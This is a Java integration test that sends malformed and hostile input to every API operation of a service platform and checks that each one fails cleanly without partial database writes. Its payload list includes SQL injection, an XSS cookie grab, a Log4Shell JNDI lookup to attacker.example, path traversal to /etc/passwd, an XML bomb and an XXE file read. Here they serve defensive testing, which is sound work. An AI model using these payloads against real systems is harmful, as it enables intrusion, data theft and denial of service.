package org.g5sahel.pcms.systemtests;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile input on every operation, generated from the services' OpenAPI and sent by a caller who holds the
 * operation's role (so that it reaches the service's parsing and rules): malformed and mistyped JSON, each declared
 * property given a wrong type, a huge or hostile string, deep nesting, invalid UTF-8, XML bombs on XML operations,
 * hostile query values. Never a 500, never a stack trace, always problem+json, and never a partial write: every
 * database is compared row by row before and after.
 */
class HostileInputIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HUGE = "A".repeat(300_000);
    private static final List<String> HOSTILE_STRINGS = List.of(
            "' OR '1'='1' --",
            "\"; DROP TABLE agency; --",
            "<script>alert(document.cookie)</script>",
            "${jndi:ldap://attacker.example/a}",
            "\u0000\u202e\ud83d\ude00",
            "../../../../etc/passwd",
            "Z".repeat(2_000));
    private static final String XML_BOMB = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
            + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
            + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>";
    private static final String XXE =
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";

    private static List<Callers.Caller> callers;
    /**
     * Tables the services' own schedules and consumers write whatever the requests: events relayed and received,
     * idempotency records purged, alerts expiring, inbox items escalating, webhook deliveries retried.
     */
    private static final java.util.Set<String> BACKGROUND_TABLES = java.util.Set.of(
            "outbox_event", "inbox_event", "idempotency_record", "alert", "inbox_item", "webhook_delivery");
    /** Hostile strings are data like any other where a field is free text: such writes are accepted, and stored as sent. */
    private static final List<String> ACCEPTED_WRITES = Collections.synchronizedList(new ArrayList<>());

    private static final List<String> ACCEPTED = Collections.synchronizedList(new ArrayList<>());

    @BeforeAll
    static void platform() {
        Platform.get();
        callers = Callers.all();
    }

    @Test
    void everyOperationAnswersHostileInputWithAProblemNeverAFailure() throws Exception {
        Map<String, DatabaseSnapshot> before = new LinkedHashMap<>();
        for (String service : Platform.services()) {
            before.put(service, DatabaseSnapshot.of("pcms_" + service + "_systest"));
        }
        List<String> violations = Collections.synchronizedList(new ArrayList<>());
        List<Future<?>> sent = new ArrayList<>();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        for (OpenApi.Operation operation : OpenApi.operations()) {
            Callers.Caller caller = callers.stream()
                    .filter(c -> c.mayCall(operation))
                    .findFirst()
                    .orElse(null);
            if (caller == null) {
                continue;
            }
            for (Map.Entry<String, byte[]> attack : attacks(operation).entrySet()) {
                sent.add(pool.submit(() -> {
                    Response response = send(operation, caller, attack.getValue());
                    check(violations, operation, attack.getKey(), response);
                }));
            }
            if (operation.method().equals("get") && !operation.streaming()) {
                for (String value : HOSTILE_STRINGS) {
                    sent.add(pool.submit(() -> {
                        // Long values go alone: a request line over 4 KiB is the HTTP server's to refuse (bare 414).
                        RequestSpecification request = given().config(Platform.BOUNDED)
                                .auth()
                                .oauth2(caller.token())
                                .queryParam("q", value);
                        if (value.length() < 500) {
                            request.queryParam("limit", value)
                                    .queryParam("cursor", value)
                                    .queryParam("state", value);
                        }
                        Response response = request.get(operation.directUrl());
                        check(
                                violations,
                                operation,
                                "hostile query " + value.substring(0, Math.min(20, value.length())),
                                response);
                    }));
                }
            }
        }
        for (Future<?> request : sent) {
            request.get();
        }
        pool.shutdown();
        // Never a partial write: no row changed or removed anywhere, and rows added only where a write was accepted.
        Map<String, Integer> added = new TreeMap<>();
        int changedRows = 0;
        for (String service : Platform.services()) {
            DatabaseSnapshot after = DatabaseSnapshot.of("pcms_" + service + "_systest");
            Map<String, Integer> changed = before.get(service).changedOrRemovedIn(after);
            changed.keySet().removeAll(BACKGROUND_TABLES);
            changedRows += changed.values().stream().mapToInt(Integer::intValue).sum();
            if (!changed.isEmpty()) {
                violations.add(service + ": rows changed or removed by hostile requests " + changed);
            }
            Map<String, Integer> newRows = before.get(service).addedIn(after);
            newRows.keySet().removeAll(BACKGROUND_TABLES);
            newRows.forEach((table, rows) -> added.put(service + "." + table, rows));
            if (ACCEPTED.stream().anyMatch(request -> request.startsWith(service + " "))) {
                newRows.remove("audit_log"); // a list or search that answered is audited like any other
            }
            if (!newRows.isEmpty() && ACCEPTED_WRITES.stream().noneMatch(write -> write.startsWith(service + " "))) {
                violations.add(service + ": rows added although every write was refused " + newRows);
            }
        }
        System.out.printf(
                "Hostile input: %d requests on %d operations; %d writes accepted (free text), rows added %s,"
                        + " %d rows changed or removed; %d violations%n",
                sent.size(),
                OpenApi.operations().size(),
                ACCEPTED_WRITES.size(),
                added,
                changedRows,
                violations.size());
        assertThat(violations).isEmpty();
    }

    @Test
    void anOversizeBodyIsRefusedAtTheGateway() {
        byte[] body = new byte[21 * 1024 * 1024];
        java.util.Arrays.fill(body, (byte) 'a');
        given().auth()
                .oauth2(Tokens.of("ne-investigator"))
                .contentType("application/json")
                .body(body)
                .post(Platform.GATEWAY + "/api/cases/v1/cases")
                .then()
                .statusCode(413);
    }

    private static void check(List<String> violations, OpenApi.Operation operation, String attack, Response response) {
        int status = response.statusCode();
        String cell = operation.service() + " " + operation + " with " + attack + ": " + status;
        if (status < 400) {
            ACCEPTED.add(cell);
            if (!operation.method().equals("get")) {
                ACCEPTED_WRITES.add(cell);
            }
        }
        if (status >= 500) {
            violations.add(cell + " (server error)");
        } else if (status >= 400 && !String.valueOf(response.contentType()).startsWith("application/problem+json")) {
            violations.add(cell + " (not problem+json)");
        }
        if (response.asString().matches("(?s).*(Exception|\\bat [a-z]+\\.[a-z]+\\.[A-Za-z]).*")) {
            violations.add(cell + " (internals in the body)");
        }
    }

    private static Response send(OpenApi.Operation operation, Callers.Caller caller, byte[] body) {
        RequestSpecification request = given().config(Platform.BOUNDED)
                .auth()
                .oauth2(caller.token())
                .contentType(
                        operation.hasXmlBody() && !operation.hasJsonBody() ? "application/xml" : "application/json")
                .body(body);
        return request.request(operation.method().toUpperCase(java.util.Locale.ROOT), operation.directUrl());
    }

    /** The bodies to send to one operation, by name. */
    static Map<String, byte[]> attacks(OpenApi.Operation operation) {
        Map<String, byte[]> attacks = new LinkedHashMap<>();
        if (operation.hasXmlBody()) {
            attacks.put("XML bomb", utf8(XML_BOMB));
            attacks.put("XXE", utf8(XXE));
        }
        if (!operation.hasJsonBody()) {
            return attacks;
        }
        attacks.put("malformed JSON", utf8("{\"a\": "));
        attacks.put("an array", utf8("[1,2,3]"));
        attacks.put("a string", utf8("\"text\""));
        attacks.put("null", utf8("null"));
        attacks.put("deep nesting", utf8("{\"a\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"));
        attacks.put(
                "invalid UTF-8",
                new byte[] {'{', '"', 't', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
        attacks.put("a huge array", utf8("{\"items\":[" + "1,".repeat(100_000) + "1]}"));
        JsonNode properties =
                operation.bodySchema() == null ? null : operation.bodySchema().path("properties");
        if (properties != null && properties.isObject()) {
            properties.fields().forEachRemaining(property -> {
                if ("string".equals(property.getValue().path("type").asText()) && !attacks.containsKey("huge string")) {
                    attacks.put(
                            "huge string",
                            utf8(JSON.createObjectNode()
                                    .put(property.getKey(), HUGE)
                                    .toString()));
                }
            });
            Iterator<Map.Entry<String, JsonNode>> fields = properties.fields();
            while (fields.hasNext()) {
                Map.Entry<String, JsonNode> property = fields.next();
                ObjectNode wrongType = JSON.createObjectNode();
                if ("string".equals(property.getValue().path("type").asText())) {
                    wrongType.putObject(property.getKey()).put("nested", true);
                } else {
                    wrongType.put(
                            property.getKey(),
                            "not a " + property.getValue().path("type").asText("value"));
                }
                attacks.put("wrong type for " + property.getKey(), utf8(wrongType.toString()));
                for (String hostile : HOSTILE_STRINGS) {
                    ObjectNode injected = JSON.createObjectNode();
                    injected.put(property.getKey(), hostile);
                    attacks.put(
                            property.getKey() + " = " + hostile.substring(0, Math.min(20, hostile.length())),
                            utf8(injected.toString()));
                }
            }
        }
        return attacks;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
